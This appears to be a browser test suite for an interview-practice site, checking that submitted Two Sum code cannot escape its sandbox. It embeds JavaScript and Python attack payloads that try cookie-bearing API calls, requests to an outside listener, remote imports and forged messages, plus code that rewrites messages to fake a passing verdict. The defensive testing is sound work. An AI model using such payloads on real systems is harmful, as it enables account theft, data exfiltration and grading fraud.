/**
 * Candidate code is hostile. A candidate submits Two Sum solutions that first try every way out of the sandbox
 * (our API with the viewer's cookie, another origin, a WebSocket, a remote module, storage, the top page, forged
 * messages), in JavaScript and in Python; then the reviewer opens the invite and their browser runs the same
 * code to confirm it. Nothing gets out: a listener on another loopback port hears nothing, the reviewer's
 * account is unchanged, and code that fakes its messages cannot fake a verdict.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { launchChromium, signedInPerson } from '../support/browser.ts';
import { typeCode } from '../support/editor.ts';
import { codingFixture } from '../support/fixtures.ts';
import { startTestServer } from '../support/server.ts';

const shots = path.resolve(import.meta.dirname, '../../test-results');
let server: Awaited<ReturnType<typeof startTestServer>>;
let browser: Browser;
let candidate: Page;
let reviewer: Page;
let sessionId: string;
/** Everything that reached the listener on another loopback port: it must stay empty. */
const heard: string[] = [];
let listener: http.Server;
let listenerUrl: string;

const person = async (name: string) =>
  (await signedInPerson(browser, server.url, name, { domain: 'sandbox-attack.example', clipboard: true })).page;

beforeAll(async () => {
  listener = http.createServer((req, res) => {
    heard.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('export default 1;');
  });
  listener.on('upgrade', (req, socket) => {
    heard.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  server = await startTestServer({ web: true, questions: [codingFixture] });
  browser = await launchChromium();
  candidate = await person('Candidate');
  reviewer = await person('Reviewer');
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

/** Every way out, tried once per sandbox; each counts as reached unless it throws or is refused. */
const jsAttack = (app: string, away: string) => `
async function attempts() {
  const A = ${JSON.stringify(app)}, E = ${JSON.stringify(away)};
  const tries = {
    fetchApi: () => fetch(A + '/api/me', { credentials: 'include' }),
    fetchApiPost: () => fetch(A + '/api/sessions', { method: 'POST', credentials: 'include',
      headers: { 'content-type': 'application/json' }, body: JSON.stringify({ questionId: 'fixture-two-sum' }) }),
    fetchAway: () => fetch(E + '/cors'),
    fetchAwayNoCors: () => fetch(E + '/no-cors', { mode: 'no-cors' }),
    protoFetch: () => WorkerGlobalScope.prototype.fetch.call(self, E + '/proto'),
    evalFetch: () => eval('fetch')(E + '/eval'),
    xhr: () => { const x = new XMLHttpRequest(); x.open('GET', A + '/api/export', false); x.send(); return x.status; },
    webSocket: () => new Promise((ok, no) => { const s = new WebSocket(E.replace('http', 'ws') + '/ws');
      s.onopen = ok; s.onerror = () => no(new Error('ws')); }),
    eventSource: () => new Promise((ok, no) => { const s = new EventSource(E + '/sse');
      s.onopen = ok; s.onerror = () => no(new Error('sse')); }),
    importRemote: () => import(E + '/module.js'),
    importScripts: () => importScripts(E + '/script.js'),
    nestedWorker: () => new Worker(E + '/worker.js'),
    indexedDB: () => new Promise((ok, no) => { const r = indexedDB.open('mockloop'); r.onsuccess = ok;
      r.onerror = () => no(r.error); }),
    caches: () => caches.open('mockloop'),
    cookie: () => document.cookie,
    topLocation: () => { top.location.href = E + '/navigated'; },
    parentPost: () => parent.postMessage({ id: 1, type: 'called', ok: true, value: [0, 1], stdout: '' }, '*'),
    beacon: () => navigator.sendBeacon(E + '/beacon', 'x'),
  };
  const reached = [];
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await Promise.race([Promise.resolve().then(attempt),
        new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 300))]);
      reached.push(name);
    } catch {}
  }
  return { tried: Object.keys(tries).length, reached };
}
let report = null;
async function twoSum(nums, target) {
  if (!report) { report = await attempts(); console.log('ATTACK tried=' + report.tried + ' reached=[' + report.reached + ']'); }
  const seen = new Map();
  for (let i = 0; i < nums.length; i++) {
    if (seen.has(target - nums[i])) return [seen.get(target - nums[i]), i];
    seen.set(nums[i], i);
  }
}
`;

const pyAttack = (app: string, away: string) => `
import js
_report = None

def _attempts():
    A = ${JSON.stringify(app)}
    E = ${JSON.stringify(away)}
    def xhr(url):
        x = js.XMLHttpRequest.new()
        x.open('GET', url, False)
        x.send()
    def open_url(url):
        from pyodide.http import open_url as o
        return o(url)
    tries = {
        'xhrApi': lambda: xhr(A + '/api/me'),
        'xhrAway': lambda: xhr(E + '/xhr'),
        'jsFetch': lambda: js.fetch(E + '/fetch'),
        'openUrl': lambda: open_url(E + '/open-url'),
        'webSocket': lambda: js.WebSocket.new(E.replace('http', 'ws') + '/ws'),
        'eventSource': lambda: js.EventSource.new(E + '/sse'),
        'indexedDB': lambda: js.indexedDB.open('mockloop'),
        'importScripts': lambda: js.importScripts(E + '/script.js'),
        'parentPost': lambda: js.parent.postMessage('forged', '*'),
        'topLocation': lambda: setattr(js.top.location, 'href', E + '/navigated'),
        'cookie': lambda: js.document.cookie,
    }
    reached = []
    for name, attempt in tries.items():
        try:
            attempt()
            reached.append(name)
        except BaseException:
            pass
    return len(tries), reached

def two_sum(nums, target):
    global _report
    if _report is None:
        _report = _attempts()
        print('ATTACK tried=%d reached=[%s]' % (_report[0], ','.join(_report[1])))
    seen = {}
    for i, x in enumerate(nums):
        if target - x in seen:
            return [seen[target - x], i]
        seen[x] = i
`;

/** Wrong on purpose, and lying about it: it rewrites every message it can find to say it passed. */
const forger = `
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (message, ...rest) {
  return post.call(this, { ...message, ok: true, verdict: 'pass', value: message && message.value, passed: true }, ...rest);
};
self.postMessage = () => {};
console.log = () => {};
function twoSum(nums, target) {
  return [-1, -1];
}
`;

const summary = (page: Page) => page.getByTestId('results-summary').textContent();
const results = (page: Page) => page.getByTestId('results').textContent();

async function reviewerState() {
  const get = async (url: string) => (await reviewer.request.get(`${server.url}${url}`)).json();
  // The reviewer's own mocks (an interview they give is listed apart, under role=interviewer, once they accept).
  return {
    me: await get('/api/me'),
    sessions: await get('/api/sessions?role=candidate'),
    exported: await get('/api/export')
  };
}

it('keeps the candidate’s own attack in the sandbox, in JavaScript and Python', { timeout: 180_000 }, async () => {
  await candidate.goto(`${server.url}/questions/${codingFixture.id}`);
  await candidate.getByRole('button', { name: 'Start coding mock' }).click();
  await candidate.waitForURL(/\/sessions\/[0-9a-f]{24}$/);
  sessionId = candidate.url().split('/').pop()!;
  await candidate.locator('.monaco-editor textarea').first().waitFor({ timeout: 30_000 });

  await candidate.getByLabel('Language').selectOption('javascript');
  await typeCode(candidate, jsAttack(server.url, listenerUrl));
  await candidate.getByRole('button', { name: 'Run', exact: true }).click();
  await expect.poll(() => summary(candidate), { timeout: 30_000 }).toContain('3 of 3 examples pass');
  expect(await results(candidate)).toContain('ATTACK tried=18 reached=[]');
  await candidate.getByRole('button', { name: 'Submit' }).click();
  await expect.poll(() => summary(candidate), { timeout: 30_000 }).toMatch(/Submission 1: 7 of 7 hidden tests pass/);

  await candidate.getByLabel('Language').selectOption('python');
  await typeCode(candidate, pyAttack(server.url, listenerUrl));
  await candidate.getByRole('button', { name: 'Run', exact: true }).click();
  await expect.poll(() => summary(candidate), { timeout: 90_000 }).toContain('3 of 3 examples pass');
  expect(await results(candidate)).toContain('ATTACK tried=11 reached=[]');
  await candidate.getByRole('button', { name: 'Submit' }).click();
  await expect.poll(() => summary(candidate), { timeout: 30_000 }).toMatch(/Submission 2: 7 of 7 hidden tests pass/);
  // The candidate's own page is where it was, and still signed in.
  expect(candidate.url()).toContain(`/sessions/${sessionId}`);
  expect((await candidate.request.get(`${server.url}/api/me`)).status()).toBe(200);
  expect(heard).toEqual([]);
});

it('cannot fake a verdict by rewriting its messages', { timeout: 60_000 }, async () => {
  await candidate.getByLabel('Language').selectOption('javascript');
  await typeCode(candidate, forger);
  await candidate.getByRole('button', { name: 'Submit' }).click();
  await expect.poll(() => summary(candidate), { timeout: 30_000 }).toMatch(/Submission 3: 0 of 7 hidden tests pass/);
});

it(
  'runs the attack in the reviewer’s browser without touching the reviewer’s account',
  { timeout: 240_000 },
  async () => {
    const invite = await (
      await candidate.request.post(`${server.url}/api/sessions/${sessionId}/invites`, { data: {} })
    ).json();
    const before = await reviewerState();
    await reviewer.goto(invite.url);
    await reviewer.waitForURL(`**/review/${sessionId}`);
    const after = await reviewerState();
    // Accepting the invite is the only change: the reviewer can now read this session.
    expect(after.me).toEqual(before.me);
    expect(after.sessions).toEqual(before.sessions);

    // The latest submission (the forger) is confirmed on its own: the forgery fails on the held-back tests.
    await expect
      .poll(() => reviewer.getByTestId('check-3').textContent(), { timeout: 30_000 })
      .toContain('Not confirmed: passed 0 of 3');
    // The attacks, on request: both really run (they pass the held-back tests) and reach nothing.
    await reviewer.getByRole('button', { name: 'Confirm #1' }).click();
    await expect
      .poll(() => reviewer.getByTestId('check-1').textContent(), { timeout: 30_000 })
      .toContain('Peer-confirmed: passed 3 of 3');
    await reviewer.getByRole('button', { name: 'Confirm #2' }).click();
    await expect
      .poll(() => reviewer.getByTestId('check-2').textContent(), { timeout: 120_000 })
      .toContain('Peer-confirmed: passed 3 of 3');
    await reviewer.screenshot({ path: path.join(shots, 'sandbox-review.png'), fullPage: true });

    const final = await reviewerState();
    expect(final.me).toEqual(before.me);
    expect(final.sessions).toEqual(before.sessions);
    expect(final.exported.sessions ?? []).toEqual(before.exported.sessions ?? []);
    const reviews = await (await candidate.request.get(`${server.url}/api/sessions/${sessionId}/scores`)).json();
    expect(JSON.stringify(reviews)).not.toContain('strong-hire');
    expect(reviewer.url()).toContain(`/review/${sessionId}`);
    expect(heard).toEqual([]);
  }
);

it('serves the sandbox document with a policy that allows no request', async () => {
  const res = await fetch(`${server.url}/sandbox/runner.html`);
  expect(res.status).toBe(200);
  const policy = res.headers.get('content-security-policy') ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).not.toMatch(/connect-src|http:|'self' /);
  expect(res.headers.get('x-frame-options')).toBeNull();
  expect(await res.text()).not.toContain('src=');
});
